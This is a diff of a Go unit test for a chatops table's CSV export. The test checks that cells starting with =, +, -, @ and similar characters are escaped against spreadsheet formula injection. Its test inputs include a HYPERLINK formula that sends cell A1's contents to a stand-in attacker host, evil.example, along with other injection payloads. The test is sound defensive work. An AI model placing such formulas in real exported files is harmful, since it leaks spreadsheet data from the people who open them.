@@ -1,24 +1,39 @@
-package chatops_test
+package chatops
 
 import (
+	"encoding/csv"
+	"strings"
 	"testing"
 	"time"
 
-	"lineman/chatops"
+	"github.com/google/go-cmp/cmp"
 )
 
 func TestCSV(t *testing.T) {
-	zone := time.FixedZone("CET", 3600)
-	table := chatops.Table{Columns: []string{"name", "=start"}}
-	for _, text := range []string{`=HYPERLINK("http://evil?"&A1)`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", `"=1`, "＝1", "'=1", " =1", "plain, with a comma", "two\nlines"} {
-		table.Rows = append(table.Rows, []chatops.Inline{chatops.T("%s", text), chatops.At(time.Date(2026, 3, 1, 4, 0, 0, 0, time.UTC))})
+	hostile := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", `"=1`, "＝1", " =1", "a,b\n\"c\""}
+	table := Table{Columns: []string{"what", "when"}}
+	for _, h := range hostile {
+		table.Rows = append(table.Rows, []Inline{C(h), At(time.Date(2026, 3, 1, 4, 0, 0, 0, time.FixedZone("", 3600)))})
 	}
-	table.Rows = append(table.Rows, []chatops.Inline{{{Text: "short", URL: "https://noc.example"}, {Mention: chatops.Party{ID: "U1", Name: "kim"}}}})
-	const at = ",2026-03-01T05:00:00+01:00\n"
-	want := "name,'=start\n" +
-		`"'=HYPERLINK(""http://evil?""&A1)"` + at + "'+1+1" + at + "'-2+3" + at + "'@SUM(1)" + at + "'\t=1" + at + "'=1" + at +
-		`"""=1"` + at + "'＝1" + at + "''=1" + at + "' =1" + at + `"plain, with a comma"` + at + "\"two\nlines\"" + at + "shortkim,\n"
-	if got := string(table.CSV(zone)); got != want {
-		t.Errorf("got\n%s\nwant\n%s", got, want)
+	table.Rows = append(table.Rows, []Inline{T("short")}, []Inline{T("a"), T("b"), T("too many")})
+	f, err := CSV("x.csv", table)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(string(f.Bytes))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range rows {
+		got = append(got, strings.Join(r, " | "))
+	}
+	at := " | 2026-03-01T03:00:00Z"
+	want := []string{
+		"what | when", `'=HYPERLINK("http://evil.example?"&A1)` + at, "'+1+1" + at, "'-2+3" + at, "'@SUM(1)" + at, "'\t=1" + at, "'=1" + at,
+		`'"=1` + at, "'＝1" + at, "' =1" + at, "a,b\n\"c\"" + at, "short | ", "a | b",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Error(diff)
 	}
 }
